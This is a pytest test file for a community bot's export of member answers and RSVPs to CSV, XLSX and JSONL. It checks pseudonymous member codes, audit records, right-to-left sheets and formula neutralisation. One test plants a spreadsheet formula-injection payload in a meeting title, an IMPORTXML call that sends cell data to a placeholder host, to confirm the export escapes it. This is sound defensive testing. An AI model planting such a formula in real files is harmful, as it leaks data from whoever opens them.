"""Exports open cleanly in a spreadsheet, carry no Telegram id unless asked, and are audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from pydantic import SecretStr

from bot.db.models import InputStatus, QuestionKind, RsvpStatus
from bot.runtime import Runtime
from bot.services import audit, exports
from bot.services.exports import ExportSpec
from bot.services.exports.cells import safe_text
from bot.services.exports.columns import typed_answer
from tests.export_support import (
    HOSTILE,
    MIXED_ANSWER,
    World,
    add_answer,
    add_checkin_answer,
    add_input_run,
    add_many_answers,
    add_rsvp,
    make_world,
)

AT = datetime(2026, 12, 1, 9, 30, tzinfo=UTC)  # 10:30 in Amsterdam


async def run_export(
    runtime: Runtime,
    world: World,
    fmt: str,
    *,
    language: str = "en",
    actor: int | None = None,
    secret: SecretStr | None = None,
    progress: Any = None,
    out: io.BytesIO | None = None,
    **spec: Any,
) -> tuple[bytes, exports.ExportResult]:
    out = out if out is not None else io.BytesIO()
    table = spec.pop("table", "answers")
    codes = await exports.member_codes(runtime.sessions, secret, now=runtime.clock())
    result = await exports.export(
        runtime.sessions,
        ExportSpec(community_id=world.community_id, language=language, **spec),
        fmt,
        out,
        translator=runtime.catalogs.translator(language),
        codes=codes,
        now=runtime.clock(),
        actor_user_id=actor,
        channel="test",
        table=table,
        progress=progress,
    )
    return out.getvalue(), result


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


async def story_world(runtime: Runtime) -> World:
    world = await make_world(runtime)
    await add_answer(runtime, world, "amira", MIXED_ANSWER, at=AT)
    await add_answer(
        runtime, world, "dawit", None, at=AT, voice=("voice-ti-1", 42), kind=QuestionKind.VOICE
    )
    await add_answer(runtime, world, "sanne", "Over werk zoeken", at=AT)
    await add_answer(runtime, world, "sanne", "Mijn eigen verhaal", at=AT, meeting=False)
    await add_rsvp(runtime, world, "amira", RsvpStatus.GOING)
    await add_rsvp(runtime, world, "sanne", RsvpStatus.MAYBE)
    await add_input_run(runtime, world, "amira", InputStatus.COMPLETED)
    return world


async def test_csv_has_a_bom_headers_in_the_export_language_and_one_row_per_answer(
    runtime: Runtime,
) -> None:
    world = await story_world(runtime)
    data, result = await run_export(runtime, world, "csv")

    assert data.startswith(b"\xef\xbb\xbf")
    rows = read_csv(data)
    assert result.answers == len(rows) == 4
    assert list(rows[0]) == [
        "Member code",
        "Member language",
        "Community",
        "Meeting id",
        "Meeting",
        "Meeting starts (local time)",
        "Given as",
        "Question",
        "Question as asked",
        "Answer language",
        "Answer",
        "Answer type",
        "Voice note reference",
        "Voice note seconds",
        "RSVP",
        "Answered at (local time)",
        "Answered at (UTC)",
        "Input status",
    ]
    amira = rows[0]
    assert amira["Answer"] == MIXED_ANSWER
    assert amira["Question"] == "What do you want to talk about?"
    assert amira["Question as asked"] == "عن ماذا تريد أن تتحدث؟"
    assert amira["Meeting"] == "Taalcafé"  # no English title: the community's default
    assert amira["Meeting starts (local time)"] == "2026-12-05 14:00"
    assert amira["Answered at (local time)"] == "2026-12-01 10:30"
    assert amira["Answered at (UTC)"] == "2026-12-01T09:30:00Z"
    assert (amira["RSVP"], amira["Input status"], amira["Member language"]) == (
        "Coming",
        "Completed",
        "ar",
    )
    dawit = rows[1]
    assert (dawit["Answer type"], dawit["Voice note reference"], dawit["Voice note seconds"]) == (
        "Voice note",
        "voice-ti-1",
        "42",
    )
    assert dawit["Input status"] == ""  # Dawit never started the questions as a run
    story = rows[3]
    assert (story["Given as"], story["Meeting"], story["Answer"]) == (
        "Story",
        "",
        "Mijn eigen verhaal",
    )


async def test_member_codes_are_stable_pseudonyms_and_no_telegram_id_is_anywhere(
    runtime: Runtime,
) -> None:
    world = await story_world(runtime)
    first, _ = await run_export(runtime, world, "csv")
    again, _ = await run_export(runtime, world, "csv")
    xlsx, _ = await run_export(runtime, world, "xlsx")
    jsonl, _ = await run_export(runtime, world, "jsonl")

    codes = [row["Member code"] for row in read_csv(first)]
    assert codes == [row["Member code"] for row in read_csv(again)]
    assert codes[2] == codes[3]  # Sanne's answer and Sanne's story
    assert len(set(codes)) == 3
    assert all(code.startswith("M-") and len(code) == 14 for code in codes)
    workbook = load_workbook(io.BytesIO(xlsx))
    cells = [
        str(v) for sheet in workbook for row in sheet.iter_rows(values_only=True) for v in row
    ]
    for telegram_id in world.telegram_ids.values():
        assert str(telegram_id).encode() not in first
        assert str(telegram_id).encode() not in jsonl
        assert all(str(telegram_id) not in cell for cell in cells)
        assert str(telegram_id).encode() not in xlsx  # not even in the zipped XML


async def test_a_configured_secret_gives_other_codes_than_the_generated_one(
    runtime: Runtime,
) -> None:
    world = await story_world(runtime)
    generated, _ = await run_export(runtime, world, "csv")
    configured, _ = await run_export(
        runtime, world, "csv", secret=SecretStr("a-long-random-export-secret-for-tests")
    )
    assert read_csv(generated)[0]["Member code"] != read_csv(configured)[0]["Member code"]


async def test_xlsx_has_a_summary_a_sheet_per_meeting_stories_and_rsvps(runtime: Runtime) -> None:
    world = await story_world(runtime)
    data, result = await run_export(runtime, world, "xlsx")

    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == [
        "Summary",
        "2026-12-05 Taalcafé",
        "Stories and check-ins",
        "RSVPs",
    ]
    assert (result.answers, result.rsvps) == (4, 2)
    meeting = workbook["2026-12-05 Taalcafé"]
    assert meeting.freeze_panes == "A2"
    # The answer column is 60 characters wide (the file adds Excel's padding to the width).
    assert int(meeting.column_dimensions["K"].width) == 60
    header = [cell.value for cell in meeting[1]]
    assert (header[0], header[10]) == ("Member code", "Answer")
    assert meeting[1][0].font.bold
    answer = meeting["K2"]
    assert answer.value == MIXED_ANSWER
    assert answer.alignment.readingOrder == 2  # right to left
    assert meeting["P2"].value == datetime(2026, 12, 1, 10, 30)  # a real date cell, local
    assert meeting.max_row == 4
    rsvps = list(workbook["RSVPs"].iter_rows(min_row=2, values_only=True))
    assert [(row[0], row[5]) for row in rsvps] == [
        (world.meeting_id, "Coming"),
        (world.meeting_id, "Maybe"),
    ]
    summary = list(workbook["Summary"].iter_rows(values_only=True))
    # Answers to questions and stories apart, as in every report; no period when unfiltered.
    facts = [row[:2] for row in summary]
    assert ("Answers", 3) in facts
    assert ("Stories", 1) in facts
    assert ("RSVPs", 2) in facts
    assert "Period" not in [label for label, _ in facts]
    assert (world.meeting_id, "Taalcafé", datetime(2026, 12, 5, 14, 0), 3, 3, 1, 1, 0) in summary


async def test_an_arabic_export_runs_right_to_left_with_arabic_titles(runtime: Runtime) -> None:
    world = await story_world(runtime)
    data, _ = await run_export(runtime, world, "xlsx", language="ar")
    workbook = load_workbook(io.BytesIO(data))
    meeting = workbook.worksheets[1]
    assert meeting.title == "2026-12-05 مقهى اللغة"
    assert meeting.sheet_view.rightToLeft
    assert meeting["H2"].value == "عن ماذا تريد أن تتحدث؟"
    assert (meeting["L2"].value, meeting["O2"].value) == ("نص", "سيحضر")  # text; coming


@pytest.mark.parametrize(("hostile", "shown"), HOSTILE)
async def test_hostile_cells_are_neutralised_in_csv_and_xlsx(
    runtime: Runtime, hostile: str, shown: str
) -> None:
    world = await make_world(runtime)
    await add_answer(runtime, world, "sanne", hostile, at=AT)

    csv_data, _ = await run_export(runtime, world, "csv")
    assert read_csv(csv_data)[0]["Answer"] == shown
    xlsx_data, _ = await run_export(runtime, world, "xlsx")
    cell = load_workbook(io.BytesIO(xlsx_data)).worksheets[1]["K2"]
    assert cell.data_type == "s"  # a string, never a formula
    # A carriage return is kept as Excel's escape `_x000D_` (XML would read a bare one back as
    # a line feed); Excel decodes it, openpyxl leaves it to `unescape`.
    assert unescape(cell.value) == shown
    jsonl_data, _ = await run_export(runtime, world, "jsonl")
    assert json.loads(jsonl_data.splitlines()[0])["answer"] == hostile  # JSON keeps it as given


def test_safe_text_leaves_ordinary_text_and_numbers_in_words_alone() -> None:
    for text in ["Taalcafé", MIXED_ANSWER, "3 kinderen", "e-mail", "a=b", "", "'quoted"]:
        assert safe_text(text) == text


async def test_a_check_in_answer_carries_its_own_input_status(runtime: Runtime) -> None:
    world = await story_world(runtime)
    # Sanne started the questions before the meeting too, and left them half done.
    await add_input_run(runtime, world, "sanne", InputStatus.PARTIAL)
    later = datetime(2026, 12, 6, 10, 0, tzinfo=UTC)
    await add_checkin_answer(
        runtime, world, "sanne", "Het was fijn", at=later, status=InputStatus.EXPIRED
    )

    data, _ = await run_export(runtime, world, "csv")
    by_answer = {row["Answer"]: row for row in read_csv(data)}
    assert by_answer["Over werk zoeken"]["Input status"] == "Partly answered"
    checkin = by_answer["Het was fijn"]
    assert (checkin["Given as"], checkin["Input status"]) == ("Check-in", "Expired")
    assert checkin["Meeting"] == "Taalcafé"


async def test_filters_meeting_local_days_and_answer_language(runtime: Runtime) -> None:
    world = await story_world(runtime)
    # 23:30 UTC on 1 December is already 2 December in Amsterdam.
    await add_answer(
        runtime, world, "amira", "متأخر", at=datetime(2026, 12, 1, 23, 30, tzinfo=UTC)
    )

    async def answers(**spec: Any) -> list[str]:
        data, _ = await run_export(runtime, world, "csv", **spec)
        return [row["Answer"] for row in read_csv(data)]

    assert len(await answers()) == 5
    assert "Mijn eigen verhaal" not in await answers(meeting_id=world.meeting_id)
    assert await answers(since=date(2026, 12, 2)) == ["متأخر"]
    assert "متأخر" not in await answers(until=date(2026, 12, 1))
    assert await answers(answer_language="ar") == [MIXED_ANSWER, "متأخر"]
    assert await answers(meeting_id=world.later_meeting_id) == []


async def test_csv_rsvp_list(runtime: Runtime) -> None:
    world = await story_world(runtime)
    data, result = await run_export(runtime, world, "csv", table="rsvps")
    rows = read_csv(data)
    assert [(row["Meeting"], row["RSVP"]) for row in rows] == [
        ("Taalcafé", "Coming"),
        ("Taalcafé", "Maybe"),
    ]
    assert (result.answers, result.rsvps) == (0, 2)


async def test_jsonl_has_a_line_per_answer_and_per_rsvp(runtime: Runtime) -> None:
    world = await story_world(runtime)
    data, _ = await run_export(runtime, world, "jsonl")
    lines = [json.loads(line) for line in data.decode().splitlines()]
    assert [line["record"] for line in lines] == ["answer"] * 4 + ["rsvp"] * 2
    assert lines[0]["answer"] == MIXED_ANSWER
    assert lines[0]["answered_at_utc"] == "2026-12-01T09:30:00+00:00"
    assert lines[0]["answered_at_local"] == "2026-12-01T10:30:00+01:00"
    assert "telegram_user_id" not in lines[0]


async def test_every_export_is_audited_with_its_rows_and_identifiable_ones_are_marked(
    runtime: Runtime,
) -> None:
    world = await story_world(runtime)
    await run_export(runtime, world, "xlsx", actor=910_880_001)
    data, _ = await run_export(runtime, world, "csv", identifiable=True)

    rows = read_csv(data)
    assert rows[0]["Telegram user id"] == str(world.telegram_ids["amira"])
    async with runtime.sessions() as session:
        identifiable = await audit.events(session, action="export.identifiable")
        plain = await audit.events(session, action="export")
    assert (len(identifiable), len(plain)) == (1, 1)
    assert (identifiable[0].row_count, identifiable[0].actor_user_id) == (4, None)
    assert identifiable[0].details["identifiable"] is True
    assert plain[0].row_count == 6  # 4 answers and 2 RSVPs
    assert plain[0].actor_user_id == 910_880_001
    assert plain[0].details["format"] == "xlsx"
    assert plain[0].community_id == world.community_id


async def test_rows_are_written_as_they_stream_not_collected_first(runtime: Runtime) -> None:
    world = await make_world(runtime)
    await add_many_answers(runtime, world, 1_600, at=AT)
    out = io.BytesIO()
    written_at_progress: list[tuple[int, int]] = []

    def progress(done: int) -> None:
        written_at_progress.append((done, out.getbuffer().nbytes))

    _, result = await run_export(runtime, world, "jsonl", progress=progress, out=out)

    assert result.answers == 1_600
    # At the first report, 500 rows were written and the other 1,100 not yet read.
    first_done, first_bytes = written_at_progress[0]
    assert first_done == 500
    assert 0 < first_bytes < len(out.getvalue()) / 2


async def test_the_generated_key_is_made_once_and_kept_in_the_database(
    runtime: Runtime,
) -> None:
    from sqlalchemy import select

    from bot.db.models import InstallationSecret

    first = await exports.member_codes(runtime.sessions, None, now=runtime.clock())
    again = await exports.member_codes(runtime.sessions, None, now=runtime.clock())
    assert first.code(1) == again.code(1)
    async with runtime.sessions() as session:
        keys = (await session.scalars(select(InstallationSecret))).all()
    assert [(key.name, len(key.value) >= 60) for key in keys] == [("export_member_codes", True)]


async def test_an_organisers_hostile_meeting_title_is_neutralised_too(runtime: Runtime) -> None:
    from sqlalchemy import update

    from bot.db.models import MeetingText

    world = await make_world(runtime)
    await add_answer(runtime, world, "sanne", "gewoon", at=AT)
    async with runtime.sessions() as session:
        await session.execute(
            update(MeetingText)
            .where(MeetingText.meeting_id == world.meeting_id, MeetingText.locale == "nl")
            .values(title='=IMPORTXML(CONCAT("http://x.invalid/?",A2),"//a")')
        )
        await session.commit()

    csv_data, _ = await run_export(runtime, world, "csv", language="nl")
    assert read_csv(csv_data)[0]["Bijeenkomst"].startswith("'=IMPORTXML")
    book = load_workbook(io.BytesIO((await run_export(runtime, world, "xlsx", language="nl"))[0]))
    sheet = book.worksheets[1]
    assert sheet.title == '2026-12-05 =IMPORTXML(CONCAT("h'  # 31 characters, only a name
    assert sheet["E2"].data_type == "s"
    assert sheet["E2"].value.startswith("'=IMPORTXML")


async def test_xlsx_cells_keep_their_types_and_text_never_turns_into_a_number_or_link(
    runtime: Runtime,
) -> None:
    world = await make_world(runtime)
    await add_answer(runtime, world, "sanne", None, at=AT, kind=QuestionKind.SCALE, value=4)
    await add_answer(runtime, world, "sanne", "0031 6 1234 5678", at=AT)
    await add_answer(runtime, world, "dawit", "https://example.invalid/ሰላም", at=AT)
    await add_answer(runtime, world, "amira", "2026-12-01", at=AT)

    data, _ = await run_export(runtime, world, "xlsx", identifiable=True)

    sheet = load_workbook(io.BytesIO(data)).worksheets[1]
    header = [cell.value for cell in sheet[1]]
    assert header[:2] == ["Member code", "Telegram user id"]
    answer = header.index("Answer")
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[answer].value for row in rows] == [
        4,
        "0031 6 1234 5678",
        "https://example.invalid/ሰላም",
        "2026-12-01",
    ]
    assert [row[answer].data_type for row in rows] == ["n", "s", "s", "s"]
    assert not any(row[answer].hyperlink for row in rows)
    assert rows[0][1].value == world.telegram_ids["sanne"]  # a number, asked for
    assert rows[0][header.index("Meeting id")].value == world.meeting_id
    answered = rows[0][header.index("Answered at (UTC)")]
    assert (answered.is_date, answered.value) == (True, datetime(2026, 12, 1, 9, 30))
    # Only the right-to-left text gets the right-to-left alignment.
    assert rows[3][answer].alignment.readingOrder != 2  # a date written by Amira
    assert rows[0][answer].alignment.readingOrder != 2


async def test_a_farsi_export_has_every_sheet_right_to_left(runtime: Runtime) -> None:
    world = await story_world(runtime)
    data, _ = await run_export(runtime, world, "xlsx", language="fa")
    book = load_workbook(io.BytesIO(data))
    assert len(book.worksheets) == 4
    assert all(sheet.sheet_view.rightToLeft for sheet in book.worksheets)
    summary = book.worksheets[0]
    assert summary["A1"].font.bold
    assert summary["B1"].value == "Invented Buurtkamer Oost"


async def test_a_sheet_name_cut_at_31_characters_never_ends_with_an_apostrophe(
    runtime: Runtime,
) -> None:
    from sqlalchemy import update

    from bot.db.models import MeetingText

    world = await make_world(runtime)
    await add_answer(runtime, world, "sanne", "gewoon", at=AT)
    async with runtime.sessions() as session:
        await session.execute(
            update(MeetingText)
            .where(MeetingText.meeting_id == world.meeting_id, MeetingText.locale == "nl")
            .values(title="Koffie met de buur'   tjes van hiernaast")
        )
        await session.commit()

    data, _ = await run_export(runtime, world, "xlsx", language="nl")
    assert load_workbook(io.BytesIO(data)).sheetnames[1] == "2026-12-05 Koffie met de buur"


async def test_xlsx_answers_are_numbers_dates_and_words_in_the_export_language(
    runtime: Runtime,
) -> None:
    world = await make_world(runtime)
    # As the questions store them: the member's text beside the value.
    await add_answer(runtime, world, "sanne", "4", at=AT, kind=QuestionKind.SCALE, value=4)
    await add_answer(
        runtime, world, "sanne", "2026-12-24", at=AT, kind=QuestionKind.DATE, value="2026-12-24"
    )
    await add_answer(runtime, world, "amira", "yes", at=AT, kind=QuestionKind.YES_NO, value=True)
    await add_answer(runtime, world, "dawit", "no", at=AT, kind=QuestionKind.YES_NO, value=False)

    data, _ = await run_export(runtime, world, "xlsx", language="nl")

    sheet = load_workbook(io.BytesIO(data)).worksheets[1]
    header = [cell.value for cell in sheet[1]]
    answer = header.index("Antwoord")
    cells = [row[answer] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [4, datetime(2026, 12, 24), "Ja", "Nee"]
    assert [cell.data_type for cell in cells] == ["n", "d", "s", "s"]
    assert cells[1].number_format == "yyyy-mm-dd"  # a day, not midnight
    answered = sheet.cell(2, header.index("Beantwoord op (lokale tijd)") + 1)
    assert (answered.data_type, answered.number_format) == ("d", "yyyy-mm-dd hh:mm")
    assert answered.value == datetime(2026, 12, 1, 10, 30)
    meeting = sheet.cell(2, header.index("Nummer van de bijeenkomst") + 1)
    assert (meeting.data_type, meeting.value) == ("n", world.meeting_id)
    # CSV keeps the answers as the member's text.
    csv_data, _ = await run_export(runtime, world, "csv", language="nl")
    assert [row["Antwoord"] for row in read_csv(csv_data)] == ["4", "2026-12-24", "yes", "no"]


async def test_every_sheet_prints_landscape_one_page_wide_with_its_header_on_every_page(
    runtime: Runtime,
) -> None:
    world = await story_world(runtime)
    data, _ = await run_export(runtime, world, "xlsx", conversations=True)

    book = load_workbook(io.BytesIO(data))
    assert len(book.worksheets) == 5
    for sheet in book.worksheets:
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert sheet.page_setup.paperSize == 9, sheet.title  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        # One page wide, as many pages tall as it takes. XlsxWriter leaves out fitToWidth="1":
        # it is the attribute's default in the OOXML schema (CT_PageSetup), so it reads as None.
        assert sheet.page_setup.fitToWidth in (None, 1), sheet.title
        assert sheet.page_setup.fitToHeight == 0, sheet.title
    summary, *tables = book.worksheets
    for sheet in tables:
        assert sheet.print_title_rows == "$1:$1", sheet.title
        assert all(cell.alignment.wrap_text for cell in sheet[1]), sheet.title
        assert all(cell.font.bold for cell in sheet[1]), sheet.title
    # The summary repeats the header of its table of meetings.
    titles = summary.print_title_rows
    assert titles is not None
    row = int(titles.split(":")[0].strip("$"))
    assert summary.cell(row, 1).value == "Meeting id"
    assert all(cell.alignment.wrap_text for cell in summary[row] if cell.value)


async def test_the_period_line_is_there_only_when_the_export_is_filtered(
    runtime: Runtime,
) -> None:
    world = await story_world(runtime)

    def facts(data: bytes) -> dict[Any, Any]:
        rows = load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True)
        return {row[0]: row[1] for row in rows if row[0] is not None}

    everything, _ = await run_export(runtime, world, "xlsx", language="nl")
    assert "Periode" not in facts(everything)
    december, _ = await run_export(
        runtime, world, "xlsx", language="nl", since=date(2026, 12, 1), until=date(2026, 12, 31)
    )
    assert facts(december)["Periode"] == "2026-12-01–2026-12-31"
    assert facts(december)["Antwoorden"] == 3
    from_only, _ = await run_export(runtime, world, "xlsx", language="nl", since=date(2026, 12, 2))
    assert facts(from_only)["Periode"] == "2026-12-02–…"
    assert facts(from_only)["Antwoorden"] == 0


def test_a_value_of_an_unexpected_shape_keeps_the_members_text() -> None:
    words = {True: "Ja", False: "Nee"}
    assert typed_answer("scale", "vier", words, "vier") == "vier"
    assert typed_answer("date", "24-12-2026", words, "24-12-2026") == "24-12-2026"
    assert typed_answer("yes_no", 1, words, None) == "1"
    assert typed_answer("date", "2026-12-24", words, "2026-12-24") == date(2026, 12, 24)
